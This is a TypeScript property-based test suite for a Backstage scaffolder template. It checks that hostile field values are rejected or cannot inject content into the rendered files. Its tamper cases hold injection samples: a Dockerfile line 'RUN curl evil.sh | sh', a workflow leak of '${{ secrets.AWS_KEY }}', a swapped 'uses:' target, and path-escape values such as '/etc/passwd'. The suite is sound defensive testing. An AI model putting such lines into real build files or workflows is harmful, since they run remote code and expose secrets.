/**
 * Property-based tests of the Stateful App template (issue 6), through the
 * real scaffolder backend's /v2/dry-run: form schema, validate action,
 * fetch:template with the skeleton, repo-create, push and register (dry run).
 *
 * Every case changes a few fields of SEED_VALUES (component_id, description,
 * owner, environment, replicas, storageSize, storageClass, mountPath, port,
 * repoUrl) to valid or hostile values: quotes, backslashes, colons, "#",
 * "- " and "? " at line start, &a / *a / !!python/object, --- and ..., CR/LF,
 * tabs, U+2028/2029/0085, zero-width and bidi characters, lone surrogates,
 * very long strings, {{ }} / {% %} / ${{ secrets.X }}, shell metacharacters,
 * ../ paths, NUL, values of the wrong type, missing fields.
 *
 *   property 1  rejected with an error naming a changed field, or every file is exactly what the model says
 *   property 2  no rendered path leaves the target folder or the seed's tree
 *   property 3  no value changes a field it does not feed (Kubernetes, GitHub expressions / uses / run, catalog
 *               relations); FC_KUSTOMIZE accepted cases, picked by the seed, are also built with `kubectl kustomize`
 * In all three a rejection must be a 4xx whose error names only fields the case changed. Each
 * property must run all its cases (an interrupted run fails) and take both branches; across the
 * three, every field must be accepted and rejected often enough (see `perField` below).
 *
 * The model (support/model.ts) is built from renders of probe values, and
 * checked against the seed's own render first.
 *
 * Run sizes and seed (support/knobs.ts):
 *   default   npx jest test/properties
 *             seed 20261126 (+ a fixed offset per property); 125 real dry-runs per property here, 1000 in-memory cases per
 *             property in skeleton.properties.test.ts; the suite takes about 2.5 minutes on 2 cores
 *   CI        the default run (in `npm test`), then a fresh random FC_SEED on FC_RUNS=250 (printed by .ci/run)
 *   larger    FC_RUNS=20000 npx jest test/properties
 *             2500 real dry-runs per property here (~5 min each), 20000 in-memory cases per
 *             property (~15 min each)
 *   other     FC_SEED=<n> other cases; FC_FULL_RUNS=<n> the real dry-run count alone;
 *             FC_KUSTOMIZE=<n> accepted cases built with kubectl kustomize (default 3, ~0.7 s each);
 *             FC_DIFF=<n> cases compared between the in-memory and the real dry-run (default 30)
 * A failure prints the property's seed and the path to replay it (fast-check's `seed` and `path`).
 */
import fc from 'fast-check';
import { JsonObject } from '@backstage/types';
import { DryRunFile, EmbeddedScaffolder, startEmbeddedScaffolder } from '../../cli/src/dryrun/embeddedScaffolder';
import { loadTemplateBundle, TemplateBundle } from '../../cli/src/dryrun/templateBundle';
import { ENVIRONMENTS, SEED_VALUES, TEMPLATE_FILE } from '../support/rendered';
import { applyChanges, changedFields, Field, FIELDS, fewFieldCases, manyFieldCases } from './support/arbitraries';
import {
  BranchCounter,
  configureFastCheck,
  expectBothBranches,
  FULL_RUNS,
  KUSTOMIZE_CASES,
  branchMinimums,
  CASE_MIXES,
  CaseMix,
  expectPerField,
  propertySeed,
  reliableMinimum,
  runBudget,
  timeoutFor,
} from './support/knobs';
import {
  assertNoProblems,
  namedFields,
  pathProblems,
  probeValues,
  RenderModel,
  rejectionProblems,
  WORKFLOW,
} from './support/model';

configureFastCheck();

/** About 0.25 s per accepted dry-run on the 2-core CI machine, 0.01–0.07 s per rejected one. */
const MS_PER_CASE = 250;

let scaffolder: EmbeddedScaffolder;
let bundle: TemplateBundle;
let model: RenderModel;

const dryRun = (values: Record<string, unknown>) => scaffolder.dryRun(bundle, values as JsonObject);

beforeAll(async () => {
  scaffolder = await startEmbeddedScaffolder();
  bundle = loadTemplateBundle(TEMPLATE_FILE);
  model = await RenderModel.build(async values => {
    const result = await dryRun(values);
    if (!result.ok) throw new Error(`model values were refused: ${result.errors.join('\n')}`);
    return result.files;
  });
}, 60_000);
afterAll(() => scaffolder?.stop());

/**
 * Each branch, overall and per field (accepted with it changed, rejected
 * naming it), as often as a fresh seed cannot miss by chance (knobs.ts,
 * branchMinimums): at 125 cases, at least 20 (few fields changed) or 14 (many)
 * accepted and 32 or 39 rejected. Per field, 125 cases are too few: a property
 * rejects naming repoUrl only ~4 times (its rejections often hide behind
 * another field's error). So per field is asserted on the three properties
 * together (375 real dry-runs: at least 2 each), and per property from 250-350
 * cases; skeleton.properties.test.ts asserts ≥10 and ≥17 per field on 1000
 * in-memory cases.
 */
const branches = (mix: CaseMix) => ({ ...branchMinimums(FULL_RUNS, mix), fields: FIELDS });
const counters: Array<BranchCounter<Field>> = [];
const newCounter = () => {
  const counter = new BranchCounter<Field>();
  counters.push(counter);
  return counter;
};

/**
 * Which accepted cases of property 3 also go through `kubectl kustomize`
 * (~0.7 s each): FC_KUSTOMIZE ordinals among its accepted cases, drawn from the
 * seed, so every seed builds different ones; drawn among the first fifth of
 * the run (a run of 125 accepts 35 to 50).
 */
const kustomizeOrdinals: number[] = fc
  .sample(
    fc.uniqueArray(fc.nat(Math.max(KUSTOMIZE_CASES, Math.floor(FULL_RUNS * 0.2)) - 1), {
      minLength: KUSTOMIZE_CASES,
      maxLength: KUSTOMIZE_CASES,
    }),
    { seed: propertySeed(4), numRuns: 1 },
  )[0]
  .sort((a, b) => a - b);

describe('the model', () => {
  it('reproduces the seed render and every probe render exactly', () => {
    expect(model.acceptedProblems(SEED_VALUES, model.seedFiles)).toEqual([]);
    expect(model.injectionProblems(SEED_VALUES, model.seedFiles)).toEqual([]);
    for (const env of ENVIRONMENTS) {
      expect(model.acceptedProblems(probeValues(env), model.probes[env])).toEqual([]);
    }
  });

  // The checks must have teeth: each of these edits of the seed's render is what an injection would look like.
  const tamper = (file: string, edit: (text: string) => string): DryRunFile[] =>
    model.seedFiles.map(f => (f.path === file ? { ...f, content: Buffer.from(edit(f.content.toString('utf8'))) } : f));
  it.each<[string, string, (text: string) => string, RegExp]>([
    [
      'a new catalog relation',
      'catalog-info.yaml',
      t => t.replace('  type: service', '  type: service\n  system: evil'),
      /spec|keys/,
    ],
    ['a second owner document', 'catalog-info.yaml', t => `${t}---\nkind: Group\n`, /documents|items/],
    ['a changed uses:', WORKFLOW, t => t.replace('stateful-delivery.yml@v1', 'evil.yml@main'), /uses/],
    [
      'a new GitHub expression',
      WORKFLOW,
      t => t.replace('app-name: my-redis', 'app-name: ${{ secrets.AWS_KEY }}'),
      /expression|app-name/,
    ],
    [
      'a Kubernetes field nothing feeds',
      'deploy/base/statefulset.yaml',
      t => t.replace('imagePullPolicy: Always', 'imagePullPolicy: IfNotPresent'),
      /imagePullPolicy/,
    ],
    [
      'a name YAML 1.1 reads as a boolean',
      'deploy/overlays/dev/kustomization.yaml',
      t => t.replace('  - name: my-redis\n', '  - name: y\n'),
      /YAML 1\.1|images/,
    ],
    [
      'a new Dockerfile instruction',
      'Dockerfile',
      t => t.replace('WORKDIR /app', 'WORKDIR /app\nRUN curl evil.sh | sh'),
      /Dockerfile/,
    ],
  ])('flags %s', (_label, file, edit, problem) => {
    const files = tamper(file, edit);
    expect(model.acceptedProblems(SEED_VALUES, files).join('\n')).toMatch(problem);
    if (file !== 'deploy/overlays/dev/kustomization.yaml')
      expect(model.injectionProblems(SEED_VALUES, files).join('\n')).toMatch(problem);
  });

  it('flags paths outside the target folder and rejections that do not name the changed field', () => {
    const extra = (p: string) => [...model.seedFiles, { path: p, executable: false, content: Buffer.from('x') }];
    for (const p of ['../evil', '/etc/passwd', 'deploy/../../x', 'a\\b', 'deploy//x', 'extra.txt']) {
      expect({ p, problems: pathProblems(extra(p)).length > 0 }).toEqual({ p, problems: true });
    }
    expect(rejectionProblems({ owner: 'x' }, { status: 400, errors: ['The catalog entity is invalid'] })).not.toEqual(
      [],
    );
    expect(rejectionProblems({ owner: 'x' }, { status: 400, errors: ['- port: 1 must be ...'] })).not.toEqual([]);
    expect(rejectionProblems({ owner: 'x' }, { status: 500, errors: ['- owner: "x" ...'] })).not.toEqual([]);
    expect(
      rejectionProblems(
        { component_id: 'x_' },
        { status: 400, errors: ['The Stateful App values break 1 rule(s):\n- name: "x_" must ...'] },
      ),
    ).toEqual([]);
  });
});

describe('properties of the real dry-run', () => {
  it(
    'property 1: a value is refused naming its field, or every rendered file is still exactly valid',
    async () => {
      const counter = newCounter();
      await fc.assert(
        fc.asyncProperty(fewFieldCases, async changes => {
          const values = applyChanges(changes);
          const result = await dryRun(values);
          counter.record(changedFields(changes), result.ok, result.ok ? [] : namedFields(result.errors));
          assertNoProblems(
            result.ok ? model.acceptedProblems(values, result.files) : rejectionProblems(changes, result),
          );
        }),
        { numRuns: FULL_RUNS, seed: propertySeed(1), plugins: [runBudget(FULL_RUNS, MS_PER_CASE)] },
      );
      expectBothBranches(counter, 'property 1', branches(CASE_MIXES.fewFieldCases));
    },
    timeoutFor(FULL_RUNS, MS_PER_CASE),
  );

  it(
    'property 2: no rendered path is outside the target folder, whatever the name or paths given',
    async () => {
      const counter = newCounter();
      await fc.assert(
        fc.asyncProperty(manyFieldCases, async changes => {
          const result = await dryRun(applyChanges(changes));
          counter.record(changedFields(changes), result.ok, result.ok ? [] : namedFields(result.errors));
          assertNoProblems(result.ok ? pathProblems(result.files) : rejectionProblems(changes, result));
        }),
        { numRuns: FULL_RUNS, seed: propertySeed(2), plugins: [runBudget(FULL_RUNS, MS_PER_CASE)] },
      );
      expectBothBranches(counter, 'property 2', branches(CASE_MIXES.manyFieldCases));
    },
    timeoutFor(FULL_RUNS, MS_PER_CASE),
  );

  it(
    'property 3: no value changes a Kubernetes field, GitHub expression, uses:/run: line or catalog relation it does not feed',
    async () => {
      const counter = newCounter();
      const kustomized: number[] = [];
      // Once a case has failed, fast-check is shrinking it: build every accepted case then, so a
      // kustomize failure shrinks too (it would otherwise vanish with its ordinal).
      let shrinking = false;
      await fc.assert(
        fc.asyncProperty(manyFieldCases, async changes => {
          const values = applyChanges(changes);
          const result = await dryRun(values);
          counter.record(changedFields(changes), result.ok, result.ok ? [] : namedFields(result.errors));
          try {
            if (!result.ok) return assertNoProblems(rejectionProblems(changes, result));
            assertNoProblems(model.injectionProblems(values, result.files));
            const ordinal = counter.accepted - 1;
            if (kustomizeOrdinals.includes(ordinal) || shrinking) {
              kustomized.push(ordinal);
              assertNoProblems(model.kustomizeProblems(values, result.files));
            }
          } catch (error) {
            shrinking = true;
            throw error;
          }
        }),
        {
          numRuns: FULL_RUNS,
          seed: propertySeed(3),
          plugins: [runBudget(FULL_RUNS, MS_PER_CASE)],
          // The issue's own example first: an owner that tries to add a spec key.
          examples: [
            [{ owner: 'group:default/x\nspec: {type: evil}' }],
            [
              {
                description:
                  'Cache: "fast" # really\n---\nspec: {owner: evil}\n- ${{ secrets.AWS_KEY }} {{ x }} {% raw %}\u2028&a *a !!binary',
                environment: 'prod',
                replicas: 3,
                storageSize: '1.5Ti',
                mountPath: '/var/lib/x/',
                port: 65535,
              },
            ],
          ],
        },
      );
      expectBothBranches(counter, 'property 3', branches(CASE_MIXES.manyFieldCases));
      console.info(
        `property 3: accepted cases ${kustomized.join(', ') || 'none'} (counting from 0) built with kubectl kustomize`,
      );
      // A short run (small FC_FULL_RUNS) may accept fewer cases than an ordinal: that one is not built.
      expect(kustomized).toEqual(kustomizeOrdinals.filter(ordinal => ordinal < counter.accepted));
    },
    timeoutFor(FULL_RUNS, MS_PER_CASE) + KUSTOMIZE_CASES * 3_000,
  );

  it('properties 1 to 3 together: every field accepted with it changed, and rejected naming it', () => {
    expect(counters).toHaveLength(3);
    expectPerField(BranchCounter.sum(counters), 'properties 1 to 3', {
      fields: FIELDS,
      perField: reliableMinimum(
        FULL_RUNS * (CASE_MIXES.fewFieldCases.rarestFieldBranch + 2 * CASE_MIXES.manyFieldCases.rarestFieldBranch),
      ),
    });
  });
});
